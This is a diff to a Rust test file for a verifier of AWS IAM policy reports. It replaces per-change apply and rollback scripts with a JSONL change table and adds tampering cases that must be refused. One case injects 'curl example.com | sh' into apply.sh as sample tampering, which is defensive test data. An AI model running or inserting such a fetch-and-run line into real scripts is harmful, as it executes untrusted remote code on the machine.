@@ -17,8 +17,9 @@ const READER: &str = "111111111111/role/deny-with-not-action/read-the-organisati
 const BEFORE: &str = "policies/111111111111/role/deny-with-not-action/read-the-organisation.before.json";
 const AFTER: &str = "policies/111111111111/role/deny-with-not-action/read-the-organisation.after.json";
 const DIFF: &str = "policies/111111111111/role/deny-with-not-action/read-the-organisation.diff";
-const APPLY: &str = "changes/111111111111/role/deny-with-not-action/read-the-organisation/apply.sh";
-const ROLLBACK: &str = "changes/111111111111/role/deny-with-not-action/read-the-organisation/rollback.sh";
+const TABLE: &str = "changes/111111111111.jsonl";
+/// How the change of [`READER`] begins in it.
+const ROW: &str = "{\"change\":\"111111111111/role/deny-with-not-action/read-the-organisation\"";
 const ADMIN: &str = "888888888888/role/wildcard-everything/everything";
 
 /// What is changed, and what verify names.
@@ -51,12 +52,22 @@ fn some(forged: &Forged, folder: &str, ending: &str) -> String {
     paths.find(|path| path.starts_with(folder) && path.ends_with(ending)).unwrap()
 }
 
+impl Forged {
+    /// Changes what the scripts do for [`READER`].
+    fn row(&mut self, from: &str, to: &str) {
+        let text = self.text(TABLE);
+        let at = text.find(ROW).unwrap();
+        assert!(text[at..].lines().next().unwrap().contains(from), "{text}");
+        self.put(TABLE, text[..at].to_owned() + &text[at..].replacen(from, to, 1));
+    }
+}
+
 fn without_families(forged: &mut Forged) {
     forged.report(|report| report.families.clear());
 }
 
 #[rustfmt::skip]
-const CASES: [Case; 63] = [
+const CASES: [Case; 67] = [
     unfit("an edited file", |it| it.replace("index.html", "<h1", "<h1 "), "index.html"),
     unfit("an added file", |it| it.put("accounts/extra.html", ""), "accounts/extra.html"),
     unfit("a removed file", |it| it.remove("findings.csv"), "findings.csv"),
@@ -92,12 +103,16 @@ const CASES: [Case; 63] = [
     case("another catalog by its digest in both files", |it| it.report(|it| it.catalog.digest = "0".repeat(64)), "is not what the report's own data give"),
     case("actions that AWS is said not to see", |it| it.json("basis.json", |it| it["unobserved"] = json!(["s3:*"])), "basis.json"),
     // What is run.
-    case("a line in apply.sh", |it| it.replace(APPLY, "\nACCOUNT=", "\ncurl example.com | sh\nACCOUNT="), APPLY),
-    case("before and after exchanged in a script", |it| { it.replace(APPLY, "FROM=before", "FROM=after"); it.replace(APPLY, "TO=after", "TO=before"); }, APPLY),
-    case("another holder in a script", |it| it.replace(APPLY, "HOLDER='deny", "HOLDER='allow"), APPLY),
-    case("other documents in a script", |it| it.replace(APPLY, "BEFORE='", "BEFORE='../"), APPLY),
-    case("a line in rollback.sh", |it| it.replace(ROLLBACK, "\nACCOUNT=", "\ntrue\nACCOUNT="), ROLLBACK),
-    case("a line in a step", |it| { let text = it.text("changes/steps/inline.bash"); it.put("changes/steps/inline.bash", text + "true\n"); }, "changes/steps/inline.bash"),
+    case("a line in apply.sh", |it| it.replace("changes/apply.sh", "\ncd ", "\ncurl example.com | sh\ncd "), "changes/apply.sh"),
+    case("a line in rollback.sh", |it| it.replace("changes/rollback.sh", "\ncd ", "\ntrue\ncd "), "changes/rollback.sh"),
+    case("a line in the library", |it| it.replace("changes/lib.bash", "\nsay()", "\ntrue\nsay()"), "changes/lib.bash"),
+    case("a change that is another", |it| it.row("\"how\":\"document\"", "\"how\":\"create\""), TABLE),
+    case("another holder in a change", |it| it.row("\"holder\":\"role/deny", "\"holder\":\"role/allow"), TABLE),
+    case("other documents in a change", |it| it.row("\"before\":\"policies", "\"before\":\"../policies"), TABLE),
+    case("before and after exchanged in a change", |it| { it.row("\"before", "\"between"); it.row("\"after", "\"before"); it.row("\"between", "\"after"); }, TABLE),
+    case("another account in a change", |it| it.row("\"account\":\"111111111111", "\"account\":\"222222222222"), TABLE),
+    case("a change twice", |it| { let text = it.text(TABLE); it.put(TABLE, text.clone() + &text); }, TABLE),
+    case("a table of no account", |it| it.put("changes/other.jsonl", "{}\n"), "changes/other.jsonl"),
     case("a new script", |it| it.put("changes/111111111111/apply.sh", "true\n"), "changes/111111111111/apply.sh"),
     case("a document of Terraform", |it| { let path = some(it, "changes/888888888888/terraform/documents/", ".json"); it.put(&path, "{}\n"); }, "changes/888888888888/terraform/documents/"),
     case("a module of Terraform", |it| it.put("changes/888888888888/terraform/module.tf", "module \"m\" {\n  source = \"./m\"\n}\n"), "changes/888888888888/terraform/module.tf"),
@@ -151,7 +166,7 @@ fn a_report_that_was_tampered_with_is_refused_by_name() {
     let root = folder("verify-tampered");
     let good = root.join("good");
     made(&good);
-    super::verify(&good).exits(0).prints("572 files fit the manifest and each other").prints("10 accounts");
+    super::verify(&good).exits(0).prints("401 files fit the manifest and each other").prints("10 accounts");
     let (next, failed) = (AtomicUsize::new(0), Mutex::new(Vec::new()));
     let work = || {
         while let Some((number, case)) =
